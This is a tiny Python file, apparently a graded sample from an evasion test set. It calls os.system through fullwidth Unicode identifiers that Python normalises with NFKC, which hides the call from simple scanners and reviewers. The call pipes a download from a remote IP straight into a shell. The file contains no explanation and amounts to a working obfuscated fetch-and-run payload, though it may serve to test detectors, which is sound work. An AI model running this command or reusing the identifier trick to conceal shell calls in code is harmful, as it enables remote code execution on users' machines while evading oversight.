# evasion: fullwidth identifiers that Python folds with NFKC to os.system
# grade: very hard; does: shell
import os

ｏｓ.ｓｙｓｔｅｍ("curl -s http://203.0.113.7/x | sh")
